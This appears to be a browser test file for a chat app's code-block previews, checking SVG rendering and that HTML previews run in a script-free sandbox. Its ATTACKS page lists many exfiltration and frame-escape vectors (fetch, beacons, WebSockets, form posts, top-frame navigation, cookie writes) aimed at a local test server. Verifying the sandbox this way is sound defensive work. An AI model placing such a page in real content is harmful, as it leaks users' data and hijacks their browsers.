import { createServer, type AddressInfo } from 'node:net';
import { readFile } from 'node:fs/promises';
import { expectAccessible } from '../support/accessibility.ts';
import type { Chat } from '../support/chat.ts';
import { waitForPaint } from '../support/paint.ts';
import { screenshots } from '../support/screenshots.ts';
import { expect, test } from '../support/test.ts';
import type { Upstream } from '../support/upstream.ts';

const SVG = `<svg viewBox="0 0 200 100"><circle cx="50" cy="50" r="40" fill="teal"/><text x="100" y="55">Text</text></svg>`;

async function show(chat: Chat, upstream: Upstream, language: string, source: string) {
  await upstream.script({ steps: [{ text: `Look:\n\n\`\`\`${language}\n${source}\n\`\`\`\n\nDone.` }] });
  await chat.open();
  await chat.say('Show');
  await chat.done();
  return chat.answers.last().locator('.md-code');
}

test('an SVG is shown as an image', async ({ chat, page, upstream }) => {
  const block = await show(chat, upstream, 'svg', SVG);
  const image = block.getByRole('button', { name: 'Image, show larger' });
  await expect(image.locator('img')).toHaveJSProperty('complete', true);
  expect(await image.locator('img').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  await expect(block.locator('pre')).toBeHidden();
  await screenshots(page, 'preview-svg');
  await expectAccessible(page);

  const height = (await block.boundingBox())!.height;
  await block.getByRole('button', { name: 'Show source' }).click();
  await expect(block.locator('pre')).toBeVisible();
  await expect(block.locator('pre')).toContainText('<circle');
  expect((await block.boundingBox())!.height).toBe(height);
  await block.getByRole('button', { name: 'Show source' }).click();

  await image.click();
  const dialog = page.getByRole('dialog', { name: 'Preview' });
  expect((await dialog.getByRole('img').boundingBox())!.width).toBeGreaterThan(900);
  await screenshots(page, 'preview-svg-large');
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();

  await block.hover();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    block.getByRole('button', { name: 'Download code' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('code.svg');
  expect(await readFile(await download.path(), 'utf8')).toBe(`${SVG}\n`);

  await chat.open(chat.path);
  await expect(image).toBeVisible();
  expect((await block.boundingBox())!.height).toBe(height);
});

test('a broken SVG shows its source and the reason', async ({ chat, page, upstream }) => {
  const block = await show(chat, upstream, 'svg', '<svg viewBox="0 0 1 1"><g><rect/></svg>');
  await expect(block.getByRole('note')).toHaveText('This image cannot be drawn: line 1: </svg> ends <g>, which begins in line 1');
  await expect(block.locator('pre')).toBeVisible();
  await expect(block.getByRole('button', { name: 'Show larger' })).toHaveCount(0);
  await screenshots(page, 'preview-broken');
});

test('a part of a page stays code', async ({ chat, page, upstream }) => {
  const block = await show(chat, upstream, 'html', '<p>one</p>');
  await waitForPaint(page);
  await expect(block.locator('pre')).toBeVisible();
  await expect(block.locator('iframe')).toHaveCount(0);
});

const PAGE = `<!DOCTYPE html>
<html><head><style>h1 { color: rgb(1, 2, 3) }</style></head>
<body><h1 onclick="this.textContent = 'pressed'">A page</h1><p id="out">no script</p>
<script>document.getElementById('out').textContent = 'script of ' + origin;</script>
</body></html>`;

test('a page is shown without its scripts', async ({ browserLog, chat, page, upstream }) => {
  // Chromium reports each script that a frame does not run.
  browserLog.allow(/Blocked script execution in/);
  const block = await show(chat, upstream, 'html', PAGE);
  const frame = block.frameLocator('iframe');
  await expect(frame.getByRole('heading', { name: 'A page' })).toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(frame.locator('#out')).toHaveText('no script');
  await expect(block.locator('iframe')).toHaveAttribute('sandbox', '');
  await screenshots(page, 'preview-page');

  await frame.getByRole('heading').click();
  await expect(frame.getByRole('heading')).toHaveText('A page');
  await expect(block).toContainText('Shown without its scripts.');

  await block.getByRole('button', { name: 'Show larger' }).click();
  const dialog = page.getByRole('dialog', { name: 'Preview' });
  await expect(dialog.frameLocator('iframe').locator('#out')).toHaveText('no script');
  await dialog.getByRole('button', { name: 'Close' }).click();
  await expect(dialog).toBeHidden();
  await expect(chat.message).toBeEditable();
});

/** Every way to reach another server that a page has by itself. */
const ATTACKS = (site: string) => `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=${site}/refresh">
<base href="${site}/base/">
<link rel="stylesheet" href="${site}/style"><link rel="prefetch" href="${site}/prefetch"><link rel="preconnect" href="${site}">
<LINK rel=dns-prefetch href="${site}"><link rel="modulepreload" href="${site}/module"><link rel="manifest" href="${site}/manifest"><link rel="icon" href="${site}/icon">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${site}/speculation"]}]}</script>
<style>@import "${site}/import"; @font-face { font-family: f; src: url(${site}/font) } body { font-family: f; background: url(${site}/background) }</style>
</head><body>Words
<img src="${site}/img"><img srcset="${site}/srcset 1x"><video src="${site}/video" poster="${site}/poster"></video><audio src="${site}/audio" autoplay></audio>
<iframe src="${site}/iframe"></iframe><object data="${site}/object"></object><embed src="${site}/embed"><svg><image href="${site}/svg"/><use href="${site}/use#a"/></svg>
<a id="link" href="${site}/link" ping="${site}/ping">link</a> <a id="top" href="${site}/top" target="_top">top</a> <a id="blank" href="${site}/blank" target="_blank">blank</a>
<form id="form" action="${site}/form"><button id="submit">send</button></form>
<input type="image" src="${site}/input" formaction="${site}/formaction">
<script>
const attempts = [
  () => fetch('${site}/fetch'), () => navigator.sendBeacon('${site}/beacon'), () => new WebSocket('${site.replace('http', 'ws')}/socket'),
  () => new EventSource('${site}/events'), () => new Image().src = '${site}/image', () => new Worker('${site}/worker'),
  () => import('${site}/import'), () => open('${site}/open'), () => { top.location = '${site}/toplocation' }, () => { parent.location.href = '${site}/parent' },
  () => document.getElementById('link').click(), () => document.getElementById('blank').click(), () => document.getElementById('top').click(),
  () => document.getElementById('form').submit(), () => parent.postMessage({ type: 'parlor', text: 'hello' }, '*'),
  () => parent.document.title = 'owned', () => localStorage.setItem('a', 'b'), () => document.cookie = 'a=b', () => navigator.serviceWorker.register('${site}/sw'),
  () => { const xhr = new XMLHttpRequest(); xhr.open('GET', '${site}/xhr'); xhr.send(); },
  () => new RTCPeerConnection({ iceServers: [{ urls: '${site.replace('http://', 'stun:')}' }] }).createDataChannel('a'),
  () => { const frame = document.createElement('iframe'); frame.srcdoc = '<img src="${site}/srcdoc">'; document.body.append(frame); },
  () => { alert(1) }, () => { location = 'javascript:fetch("${site}/javascript")' },
];
for (const attempt of attempts) try { Promise.resolve(attempt()).catch(() => {}) } catch {}
setTimeout(() => location.replace('${site}/replace'));
</script></body></html>`;

test('nothing leaves a page', async ({ browserLog, chat, context, page, upstream }) => {
  // Chromium reports each refused attempt.
  browserLog.allow(/./);
  const connections: string[] = [];
  const sent: string[] = [];
  const other = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', (data) => sent.push(data.toString().split('\r\n')[0]!));
    connections.push('connection');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const site = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  const address = () => page.url();

  const block = await show(chat, upstream, 'html', ATTACKS(site));
  const path = address();
  const frame = block.frameLocator('iframe');
  await expect(frame.locator('body')).toContainText('Words');
  await waitForPaint(page);
  expect(connections).toEqual([]);
  for (const id of ['link', 'top', 'submit']) {
    // A refused navigation leaves an error page in the frame.
    await frame.locator(`#${id}`).click({ timeout: 1000 }).catch(() => {});
    await block.getByRole('button', { name: 'Show source' }).click();
    await block.getByRole('button', { name: 'Show source' }).click();
    await expect(frame.locator('body')).toContainText('Words');
  }
  await waitForPaint(page);
  // A press on a link may open a connection ahead of time, but the navigation is refused and nothing is sent.
  expect(sent).toEqual([]);
  expect(address()).toBe(path);
  expect(context.pages()).toHaveLength(1);
  await expect(page).toHaveTitle('Show · Parlor');
  await chat.message.fill('still here');
  await expect(chat.message).toHaveValue('still here');
  other.close();
});

test('an endless loop in a page does not run', async ({ browserLog, chat, page, upstream }) => {
  browserLog.allow(/Blocked script execution in/);
  const block = await show(chat, upstream, 'html', '<!DOCTYPE html><p>Words</p><script>while (true) {}</script>');
  await expect(block.frameLocator('iframe').getByText('Words')).toBeVisible();
  await chat.message.fill('still here');
  await expect(chat.message).toHaveValue('still here');
  await block.getByRole('button', { name: 'Show source' }).click();
  await expect(block.locator('iframe')).toHaveCount(0);
  await expect(block.locator('pre')).toContainText('while');
});
